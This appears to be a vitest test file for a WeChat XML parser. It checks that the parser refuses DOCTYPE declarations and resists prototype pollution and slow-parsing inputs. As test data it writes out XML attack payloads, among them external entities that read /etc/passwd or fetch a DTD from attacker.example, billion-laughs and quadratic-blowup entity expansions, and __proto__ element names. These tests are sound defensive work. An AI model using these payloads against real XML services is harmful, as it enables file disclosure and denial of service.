import { describe, expect, test } from "vitest";
import { parseXml } from "../../src/wechat/xml.ts";

const KIB_256 = 256 * 1024;
/** Most take a few ms; what is quadratic takes several times this. */
const REASONABLE_MS = 2_000;

/** Ms for reading a text: the least of three tries, for the machine may be busy with something else. */
function timeFor(text: string): number {
  const tries: number[] = [];
  while (tries.length < 3 && (tries.at(-1) ?? Number.POSITIVE_INFINITY) >= REASONABLE_MS) {
    const started = performance.now();
    parseXml(text);
    tries.push(performance.now() - started);
  }
  return Math.min(...tries);
}

const ENTITY = '<!DOCTYPE x [<!ENTITY a "believed">]>';

describe("a DOCTYPE is refused", () => {
  test.each([
    ["alone", "<!DOCTYPE xml><xml><a>1</a></xml>"],
    ["with an entity", `${ENTITY}<xml><a>&a;</a></xml>`],
    ["after a declaration", `<?xml version="1.0"?>${ENTITY}<xml><a>&a;</a></xml>`],
    ["within the root", `<xml>${ENTITY}<a>&a;</a></xml>`],
    ["within a value", `<xml><a>${ENTITY}&a;</a></xml>`],
    ["after the root", `<xml><a>1</a></xml>${ENTITY}`],
    ["behind a comment that seems to open CDATA", `<!-- <![CDATA[ -->${ENTITY}<!-- ]]> --><xml><a>&a;</a></xml>`],
    ["behind an attribute that seems to open CDATA", `<xml b='<![CDATA['>${ENTITY}<a c=']]>'>&a;</a></xml>`],
    ["behind an instruction that seems to open CDATA", `<?pi <![CDATA[ ?>${ENTITY}<xml><a>&a;]]></a></xml>`],
    ["with an external entity", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><xml><a>&a;</a></xml>'],
    ["with an external subset", '<!DOCTYPE x SYSTEM "https://attacker.example/x.dtd"><xml><a>1</a></xml>'],
    [
      "with a parameter entity",
      '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://attacker.example/x.dtd">%p;]><xml><a>1</a></xml>',
    ],
    ["that declares one of XML's own entities", '<!DOCTYPE x [<!ENTITY lt "believed">]><xml><a>&lt;</a></xml>'],
  ])("%s", (_where, text) => {
    expect(parseXml(text)).toBeNull();
  });

  test("that multiplies entities (billion laughs)", () => {
    const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`);
    const text = `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs.join("")}]><xml><a>&l9;</a></xml>`;
    expect(parseXml(text)).toBeNull();
  });

  test("that repeats one long entity (quadratic blow-up)", () => {
    const text = `<!DOCTYPE x [<!ENTITY a "${"x".repeat(50_000)}">]><xml><a>${"&a;".repeat(50_000)}</a></xml>`;
    expect(parseXml(text)).toBeNull();
  });

  test.each(["doctype", "Doctype", " DOCTYPE"])("and what is only spelled like one (%s) declares nothing", (word) => {
    const text = `<!${word} x [<!ENTITY a "believed">]><xml><a>&a;</a></xml>`;
    expect(JSON.stringify(parseXml(text))).not.toContain("believed");
  });
});

test("elements are read to a depth that WeChat never comes near, and no deeper", () => {
  const nested = (depth: number) => `<xml>${"<a>".repeat(depth)}1${"</a>".repeat(depth)}</xml>`;
  expect(parseXml(nested(10))).not.toBeNull();
  expect(parseXml(nested(20))).toBeNull();
  expect(parseXml(nested(30_000))).toBeNull();
});

describe("names that mean something to JavaScript", () => {
  const names = [
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "valueOf",
    "hasOwnProperty",
    "#text",
    "#cdata",
    ":@",
  ];

  test.each(names)("change nothing: <%s>", (name) => {
    for (const text of [
      `<xml><${name}>polluted</${name}><a>1</a></xml>`,
      `<xml><${name}><polluted>1</polluted></${name}></xml>`,
      `<${name}><polluted>1</polluted></${name}>`,
      `<xml><a>1</a><${name}/><${name}/></xml>`,
    ]) {
      const fields = parseXml(text);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      // Such a document is refused, or the element is one like any other.
      if (fields !== null) {
        expect(Object.getPrototypeOf(fields)).toBe(Object.prototype);
        expect(fields.polluted === undefined || Object.hasOwn(fields, "polluted")).toBe(true);
      }
    }
  });
});

describe("256 KiB are read in reasonable time", () => {
  const fill = (piece: string) => piece.repeat(Math.floor(KIB_256 / piece.length));

  test.each([
    "<",
    "<a",
    "<a>",
    "<a/>",
    "<a></a>",
    "</",
    "</a>",
    "<a b=",
    '<a b="',
    "<a b='",
    "<![CDATA[",
    "<![CDATA[]]>",
    "]]>",
    "<!--",
    "<!-- -->",
    "<?",
    "<?a?>",
    "<!",
    "<!D",
    "<!DOCTYPE",
    "<!ENTITY ",
    "&",
    "&amp;",
    "&#",
    "&#x",
    "&#65;",
    "x",
    " ",
    "\r\n",
    "\u0000",
    "😀",
  ])("of %j, alone, as elements and as a value", (piece) => {
    for (const text of [fill(piece), `<xml>${fill(piece)}</xml>`, `<xml><a>${fill(piece)}</a></xml>`]) {
      expect(timeFor(text)).toBeLessThan(REASONABLE_MS);
    }
  });

  test("of open CDATA with a DOCTYPE behind it", () => {
    expect(timeFor(`${fill("<![CDATA[")}<!DOCTYPE x>`)).toBeLessThan(REASONABLE_MS);
  });

  test("of one value, and of thousands of elements", () => {
    const long = "好".repeat(KIB_256 / 3);
    expect(parseXml(`<xml><a><![CDATA[${long}]]></a></xml>`)).toEqual({ a: long });
    const many = Array.from({ length: 15_000 }, (_, i) => `<n${i}>${i}</n${i}>`).join("");
    expect(Object.keys(parseXml(`<xml>${many}</xml>`) ?? {})).toHaveLength(15_000);
    expect(timeFor(`<xml>${many}</xml>`)).toBeLessThan(REASONABLE_MS);
  });
});
